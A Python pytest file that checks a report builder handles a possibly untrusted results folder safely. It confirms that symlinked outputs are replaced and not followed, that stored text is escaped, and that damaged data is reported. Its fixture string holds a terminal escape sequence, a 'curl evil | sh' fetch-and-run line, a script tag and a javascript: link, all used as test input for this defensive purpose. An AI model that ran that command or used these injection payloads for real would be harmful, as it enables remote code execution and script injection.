"""The report of a folder that may be a stranger's: nothing outside it is touched, and stored text stays text."""

from __future__ import annotations

import json
from types import SimpleNamespace

import numpy as np
import pytest

from pycotmech.runs import ResultAxes, SweepStore
from pycotmech.runs.report import build_report
from pycotmech.runs.store import STORE

EVIL = "m\x1b]0;owned\x07\ncurl evil | sh\n<script>alert(1)</script> [x](javascript:1) `y` | z"


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    identity = {"model": EVIL, "metric": "kl", "direction": "denoise", "positions": "all", "seed": EVIL}
    about = {"model": {"name": EVIL, "description": EVIL, "notes": [EVIL]}, "versions": {"torch": EVIL}}
    axes = ResultAxes(["0", "1"], [0, 1], ["copying", EVIL], n_layers=4, n_heads=2)
    store = SweepStore.create(folder, axes, identity=identity, about={**about, "created": EVIL, "threads": 1})
    for e in range(2):
        raw = np.random.default_rng(e).normal(size=(4, 2))
        sweep = SimpleNamespace(
            raw=raw, values=raw, effect=raw, clean_metric=[0.0], corrupted_metric=[1.0], noise_floor=1e-6, control=raw, sham=0.0
        )
        store.grade(e, [1, 1])
        store.finish(e, [0, 1], [sweep, sweep], 1.0)
    step = {"step": 1, "prefix_text": EVIL, "answer_word": EVIL}
    record = {"question": EVIL, "query": EVIL, "chain": EVIL, "steps": [{**step, "step": 0}, step]}
    (folder / "examples.jsonl").write_text(json.dumps(record) + "\n", "utf-8")
    return folder


def test_links_are_replaced_and_never_followed(folder, tmp_path):
    names = ("summary.md", "summary.json", "top_heads.csv", "step_00.png", "overview.png")
    for name in names:
        (tmp_path / f"outside-{name}").write_text("precious")
        (folder / name).symlink_to(tmp_path / f"outside-{name}")
    build_report(folder)
    for name in names:
        assert (tmp_path / f"outside-{name}").read_text() == "precious"
        assert not (folder / name).is_symlink() and (folder / name).stat().st_size > 50


def test_stored_text_is_quoted(folder):
    report = build_report(folder)
    shown = "\n".join([report.headline, *report.notes, report.table, *report.sentences])
    summary = (folder / "summary.md").read_text("utf-8")
    for text in (shown, summary, (folder / "summary.json").read_text("utf-8")):
        assert "\x1b" not in text and "\x07" not in text and "\ncurl" not in text
    assert "\\x1b]0;owned" in shown
    unquoted = summary.replace("\\<", "").replace("\\[", "").replace("\\`", "")
    assert "<script" not in unquoted and "[x]" not in unquoted and "`y" not in unquoted


def test_damage_is_said_and_left_out(folder):
    (chunk,) = (path for path in (folder / STORE / "raw").glob("c.1.*"))
    chunk.write_bytes(chunk.read_bytes()[:9])
    report = build_report(folder, figures=False)
    assert report.steps["n"].values.tolist() == [1, 1] and report.steps["pending"].values.tolist() == [1, 1]
    assert any("stored data of 1 example (1) is damaged and left out" in note for note in report.notes)


@pytest.mark.parametrize("line", ["[1]", "{}", '{"steps": [1]}', "[" * 50_000, "\\"])
def test_strange_examples_are_done_without(folder, line):
    (folder / "examples.jsonl").write_text(line, "utf-8")
    build_report(folder, figures=False)
